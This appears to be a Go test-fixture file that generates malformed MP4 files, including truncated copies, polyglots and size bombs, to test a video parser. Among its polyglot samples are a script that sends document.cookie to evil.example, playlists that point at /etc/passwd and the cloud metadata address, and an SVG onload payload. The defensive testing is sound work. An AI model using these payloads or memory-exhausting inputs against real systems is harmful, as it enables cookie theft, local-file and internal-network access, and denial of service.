package mp4test

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"math/rand/v2"
)

// cuts are films that end at the start, inside the header and inside the body of every box of the
// index: interrupted copies.
func cuts() []Defect {
	f := Generate(300, 470)
	whole := f.Reader()
	var out []Defect
	seen := map[string]bool{}
	var walk func(n *Node, at int, path string)
	walk = func(n *Node, at int, path string) {
		path += "/" + n.Kind
		if !seen[path] {
			seen[path] = true
			end := at + 4
			if len(path)%2 == 0 {
				end = at + 8 + len(n.Body)/2 // half of the boxes end in their body, half in their header
			}
			out = append(out, Defect{Name: "cut in " + path[1:], Class: "cut", Parse: "truncated_video", Door: "truncated_video",
				File: Sparse{Head: whole.Head[:end], Length: int64(end)}})
		}
		at += 8 + len(n.Body)
		for _, kid := range n.Kids {
			walk(kid, at, path)
			at += len(kid.Bytes())
		}
	}
	walk(f.Moov, len(f.Ftyp.Bytes()), "")
	for _, part := range []int64{1, 2, 3} {
		n := int64(len(whole.Head)) + f.data*part/4
		out = append(out, Defect{Name: fmt.Sprintf("cut at %d/4 of the media", part), Class: "cut", Parse: "truncated_video", Door: "truncated_video",
			File: Sparse{Head: whole.Head, Length: n}})
	}
	return out
}

// polyglots are files that something else would read as a page, an archive, a list or a program.
func polyglots() []Defect {
	film := Generate(300, 470)
	good := film.Reader()
	raw := append(bytes.Clone(good.Head), make([]byte, film.data)...)
	whole := func(b []byte) Sparse { return Sparse{Head: b, Length: int64(len(b))} }
	script := []byte("<!DOCTYPE html><script>fetch('//evil.example/'+document.cookie)</script>")
	var out []Defect
	before := func(name string, head []byte) {
		out = append(out, Defect{Name: name, Class: "polyglot", Parse: "not_a_video", Door: "not_a_video", File: whole(append(bytes.Clone(head), raw...))})
	}
	before("page before the film", script)
	before("zip before the film", []byte("PK\x03\x04\x14\x00\x00\x00"))
	before("pdf before the film", []byte("%PDF-1.7\n1 0 obj\n"))
	before("gif before the film", []byte("GIF89a\x01\x00\x01\x00"))
	before("program before the film", []byte("\x7fELF\x02\x01\x01\x00"))
	before("playlist of local files", []byte("#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n"))
	before("concat list of local files", []byte("ffconcat version 1.0\nfile /etc/passwd\n"))
	before("playlist of another host", []byte("#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1,\nhttp://169.254.169.254/latest/meta-data/\n"))
	before("svg that loads", []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`))
	before("matroska", []byte("\x1a\x45\xdf\xa3\x01\x00\x00\x00\x00\x00\x00\x1f"))
	before("flash video", []byte("FLV\x01\x05\x00\x00\x00\x09"))
	before("avi", []byte("RIFF\x00\x10\x00\x00AVI LIST"))
	before("transport stream", bytes.Repeat(append([]byte{0x47}, make([]byte, 187)...), 4))
	before("a byte order mark", []byte("\xef\xbb\xbf"))
	// These are films: a player plays them, and what else they say is never served as anything but video.
	within := func(name string, b []byte) {
		out = append(out, Defect{Name: name, Class: "polyglot", File: whole(b)})
	}
	within("page in a free box after the film", append(bytes.Clone(raw), Leaf("free", script).Bytes()...))
	within("zip after the film", append(bytes.Clone(raw), "PK\x05\x06\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"...))
	within("page after the film", append(bytes.Clone(raw), script...))
	return out
}

// bombs are small claims of great size, and the largest index that is taken.
func bombs() []Defect {
	f := Generate(300, 470)
	head := f.Ftyp.Bytes()
	with := func(rest []byte, length int64) Sparse {
		return Sparse{Head: append(bytes.Clone(head), rest...), Length: length}
	}
	return []Defect{
		{Name: "moov of 2 GB claimed", Class: "bomb", Parse: "truncated_video", Door: "truncated_video", File: with(Pack(uint32(1<<31), "moov"), 1<<20)},
		{Name: "moov of zeros, 60 MB", Class: "bomb", Parse: "broken_video", Door: "broken_video", File: with(Pack(uint32(60<<20), "moov"), 60<<20+64)},
		{Name: "moov larger than any index", Class: "bomb", Parse: "broken_video", Door: "broken_video", File: with(Pack(uint32(65<<20), "moov"), 65<<20+64)},
		{Name: "mdat of 2^63 bytes", Class: "bomb", Parse: "truncated_video", Door: "truncated_video", File: with(Pack(1, "mdat", uint64(1<<63-1)), 1<<16)},
		{Name: "mdat of 2^64-1 bytes", Class: "bomb", Parse: Any, Door: Any, File: with(Pack(1, "mdat", uint64(1<<64-1)), 1<<16)},
		{Name: "mdat of 64-bit size 0", Class: "bomb", Parse: Any, Door: Any, File: with(Pack(1, "mdat", uint64(0)), 1<<16)},
		{Name: "300,000 empty boxes", Class: "bomb", Parse: "broken_video", Door: "broken_video", File: with(bytes.Repeat(Leaf("free").Bytes(), 300_000), 2_400_000+int64(len(head)))},
		{Name: "a million empty fragments", Class: "bomb", Parse: "broken_video", Door: "broken_video", File: with(append(f.Moov.Bytes(), bytes.Repeat(Leaf("moof").Bytes(), 300_000)...), 3_000_000)},
		{Name: "every duration different", Class: "bomb", Parse: Any, Door: Any, File: variable()},
		{Name: "every sample in its own fragment run", Class: "bomb", Parse: Any, Door: Any, File: runs()},
		{Name: "every duration of a fragment different", Class: "bomb", Parse: "broken_video", Door: "broken_video", File: durations()},
		{Name: "nothing but ftyp", Class: "bomb", Parse: "truncated_video", Door: "truncated_video", File: with(nil, int64(len(head)))},
		{Name: "one byte", Class: "bomb", Parse: "not_a_video", Door: "not_a_video", File: Sparse{Length: 1}},
		{Name: "a megabyte of zeros", Class: "bomb", Parse: "not_a_video", Door: "not_a_video", File: Sparse{Length: 1 << 20}},
	}
}

// variable is the index that costs most memory for its size: each of as many samples as fit has a
// duration, a composition offset and a size of its own.
func variable() Sparse {
	const n = 2_800_000
	f := Generate(2, 0)
	s := f.Moov.Stbl()
	stts, ctts, sizes := Pack(0, n), Pack(0, n), Pack(0, 0, n)
	for i := range uint32(n) {
		stts = binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32(stts, 1), 2+i%2)
		ctts = binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32(ctts, 1), i%2)
		sizes = binary.BigEndian.AppendUint32(sizes, i%2)
	}
	s.Find("stts").Body, s.Find("ctts").Body, s.Find("stsz").Body = stts, ctts, sizes
	s.Find("stsc").Body = Pack(0, 1, 1, n, 1)
	s.Find("stco").Body = Pack(0, 1, 0)
	f.Moov.Kids = f.Moov.Kids[:2] // the sound would only take room
	f.data, f.head = n, 0
	return f.Reader()
}

// runs is the same by fragments: one run per sample.
func runs() Sparse {
	const n = 1_500_000
	f := Generate(300, 470)
	run := Leaf("trun", Pack(0xf01, 1, 8, 3000, 1, 0, 0)).Bytes()
	body := append(Leaf("tfhd", 0x020000, 1).Bytes(), bytes.Repeat(run, 60_000)...)
	for range n / 60_000 {
		f.Tail = append(f.Tail, Tree("moof", &Node{Kind: "traf", Body: body}))
	}
	return f.Reader()
}

// durations is one fragment of eight million samples that each have a duration of their own.
func durations() Sparse {
	const n = 8_000_000
	f := Generate(300, 470)
	run := Pack(0x101, n, 8)
	for i := range uint32(n) {
		run = binary.BigEndian.AppendUint32(run, 2+i%2)
	}
	f.Tail = append(f.Tail, Tree("moof", Tree("traf", Leaf("tfhd", 0x020000, 1), &Node{Kind: "trun", Body: run})))
	f.Tail = append(f.Tail, Leaf("free"))
	return f.Reader()
}

// seeded is how many films get random damage.
const seeded = 24

// damage overwrites some bytes of the index by chance.
func damage(seed uint64) Sparse {
	random := rand.New(rand.NewPCG(seed, 0x4d5034)) // "MP4"
	f := Generate(300, 470).Reader()
	for range 1 + random.IntN(4) {
		at := 20 + random.IntN(len(f.Head)-28)
		switch random.IntN(3) {
		case 0:
			f.Head[at] ^= 1 << random.IntN(8)
		case 1:
			binary.BigEndian.PutUint32(f.Head[at:], random.Uint32())
		default:
			f.Head[at] = [...]byte{0, 0xff, 0x7f, 0x80}[random.IntN(4)]
		}
	}
	return f
}
